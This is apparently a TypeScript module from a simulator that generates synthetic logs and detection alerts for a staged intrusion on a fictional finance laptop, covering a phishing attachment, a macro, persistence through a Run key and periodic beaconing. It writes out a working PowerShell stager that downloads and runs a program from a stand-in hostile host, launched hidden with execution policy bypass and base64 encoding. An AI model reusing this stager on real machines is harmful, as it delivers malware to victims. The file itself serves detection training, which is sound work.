// First act: a letter to finance, a document with a macro, a hidden PowerShell, a program that calls home.
import { minute, second } from '../calendar.ts'
import { type Desk, deskAt } from '../desk.ts'
import { loggedOn } from '../logons.ts'
import { dc01, hostile, mail01 } from '../machines.ts'
import { accountant } from '../people.ts'
import { letterPassed } from '../post.ts'
import {
  askedName,
  connected,
  type Process,
  scriptBlock,
  type Seat,
  setKey,
  startProcess,
  wroteFile,
} from '../processes.ts'
import { program, unsigned } from '../programs.ts'
import { flowEnded, handshake, nameAsked, requested, signatureHit, type Wire } from '../sensor.ts'
import type { Moment, Teller } from './teller.ts'

/** What the intruder has on the laptop. */
export interface Foothold {
  seat(moment: Moment): Seat
  readonly implant: Process
}

const machine = accountant.laptop
const lure = 'Remittance_8841.docm'
const user = `C:\\Users\\${accountant.id}`
const cache = `${user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7X2K0VB`
export const implantFile = `${user}\\AppData\\Roaming\\EdgeSync\\edgesync.exe`
const stager =
  `$w=New-Object Net.WebClient;$p="$env:APPDATA\\EdgeSync";md $p -Force|Out-Null;` +
  `$w.DownloadFile('http://${hostile.lure.host}/assets/es.bin',"$p\\edgesync.exe");Start-Process "$p\\edgesync.exe"`
/** PowerShell's -EncodedCommand: UTF-16LE in base 64. */
const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64')

const wireTo = (port: number, place: { address: string; port: number }): Wire => ({
  src: machine.address,
  srcPort: port,
  dst: place.address,
  dstPort: place.port,
})

function openLure(teller: Teller, desk: Desk, seat: (moment: Moment) => Seat): Process {
  teller.tell(
    {
      step: 'lure-delivered',
      title: 'A letter with a macro document reaches finance',
      technique: 'T1566.001',
      host: mail01,
      after: 0,
    },
    ({ emit, time, dice }) =>
      letterPassed(emit, time, dice, {
        from: 'accounts@medical-supplies-billing.example',
        to: `${accountant.id}@fernhill.example`,
        client: `mx.medical-supplies-billing.example[${hostile.lure.address}]`,
        size: 214_302,
        attachment: lure,
      }),
  )
  return teller.tell(
    {
      step: 'document-opened',
      title: 'The attachment is opened in Word',
      technique: 'T1204.002',
      host: machine,
      after: 21,
    },
    (moment) => {
      const { time } = moment
      const here = seat(moment)
      loggedOn(moment.emit, machine, time - 4 * minute, { session: desk.session, type: 7 })
      wroteFile(here, time, desk.open.outlook, `${cache}\\${lure}`)
      const word = startProcess(here, time + 1400, {
        parent: desk.open.outlook,
        program: program('word'),
        commandLine: `"${program('word').image}" /n "${cache}\\${lure}" /o ""`,
        directory: `${user}\\Documents\\`,
      })
      wroteFile(here, time + 2900, word, `${cache}\\~$${lure.slice(2)}`)
      return word
    },
  )
}

function runMacro(teller: Teller, word: Process, seat: (moment: Moment) => Seat): Process {
  const powershell = teller.tell(
    {
      step: 'macro-powershell',
      title: 'The macro starts a hidden, encoded PowerShell',
      technique: 'T1059.001',
      host: machine,
      after: 22,
    },
    (moment) => {
      const here = seat(moment)
      const process = startProcess(here, moment.time, {
        parent: word,
        program: program('powershell'),
        commandLine: `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encoded(stager)}`,
        directory: `${user}\\Documents\\`,
      })
      scriptBlock(here, moment.time + 900, stager)
      return process
    },
  )
  teller.tell(
    {
      step: 'stager-download',
      title: 'PowerShell downloads a program',
      technique: 'T1105',
      host: machine,
      after: 22.7,
    },
    (moment) => {
      const { emit, time, dice } = moment
      const here = seat(moment)
      askedName(here, time, powershell, hostile.lure)
      nameAsked(
        emit,
        time + 20,
        { src: machine.address, srcPort: dice.between(50_000, 65_000), dst: dc01.address, dstPort: 53 },
        { name: hostile.lure.host, address: hostile.lure.address },
      )
      const wire = wireTo(connected(here, time + 80, powershell, hostile.lure), hostile.lure)
      requested(emit, time + 300, wire, {
        host: hostile.lure.host,
        url: '/assets/es.bin',
        agent: 'Mozilla/5.0 (compatible)',
        status: 200,
        length: 684_032,
        type: 'application/x-msdownload',
      })
      signatureHit(emit, time + 310, wire, {
        id: 9000201,
        text: 'FERNHILL MALWARE Windows program downloaded under another name',
        category: 'Potential Corporate Privacy Violation',
        severity: 1,
      })
      wroteFile(here, time + 1800, powershell, implantFile)
      flowEnded(emit, time + 4 * second, wire, { out: 1420, in: 702_118, lasted: 3600, application: 'http' })
    },
  )
  return powershell
}

const beaconEvery = 5 * minute

function callHome(teller: Teller, implant: Process, seat: (moment: Moment) => Seat): void {
  teller.tell(
    {
      step: 'beacon',
      title: 'The program calls its controller every five minutes',
      technique: 'T1071.001',
      host: machine,
      after: 23.8,
    },
    (moment) => {
      const { emit, time, dice } = moment
      const here = seat(moment)
      let at = time
      for (let n = 0; n < 30; n++) {
        if (n % 6 === 0) {
          askedName(here, at, implant, hostile.control)
          const asks = { src: machine.address, srcPort: dice.between(50_000, 65_000), dst: dc01.address, dstPort: 53 }
          nameAsked(emit, at + 25, asks, { name: hostile.control.host, address: hostile.control.address })
        }
        const wire = wireTo(connected(here, at + 90, implant, hostile.control), hostile.control)
        handshake(emit, at + 160, wire, hostile.control.host)
        if (n % 12 === 3)
          signatureHit(emit, at + 200, wire, {
            id: 9000202,
            text: 'FERNHILL C2 Regular small TLS sessions to a server seen for the first time',
            category: 'A Network Trojan was detected',
            severity: 1,
          })
        flowEnded(emit, at + 2 * second, wire, {
          out: dice.between(700, 1900),
          in: dice.between(900, 5200),
          lasted: 1800,
          application: 'tls',
        })
        at += Math.round(beaconEvery * (0.82 + dice.next() * 0.36))
      }
    },
  )
}

/** From the letter to a program that calls home. */
export function gainFoothold(teller: Teller): Foothold {
  const desk = deskAt(teller.seed, accountant, teller.begin)
  const seat = ({ emit, dice }: Moment): Seat => ({
    machine,
    address: machine.address,
    session: desk.session,
    emit,
    dice,
  })
  const word = openLure(teller, desk, seat)
  const powershell = runMacro(teller, word, seat)
  const implant = teller.tell(
    {
      step: 'implant-started',
      title: 'It starts under the name of a browser part',
      technique: 'T1036.005',
      host: machine,
      after: 23.4,
    },
    (moment) =>
      startProcess(seat(moment), moment.time, {
        parent: powershell,
        program: unsigned(implantFile),
        commandLine: `"${implantFile}"`,
        directory: `${user}\\Documents\\`,
      }),
  )
  teller.tell(
    {
      step: 'run-key',
      title: 'It arranges to start with every logon',
      technique: 'T1547.001',
      host: machine,
      after: 25,
    },
    (moment) =>
      setKey(seat(moment), moment.time, implant, {
        key: `HKU\\${accountant.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\EdgeSync`,
        details: implantFile,
      }),
  )
  callHome(teller, implant, seat)
  return { seat, implant }
}
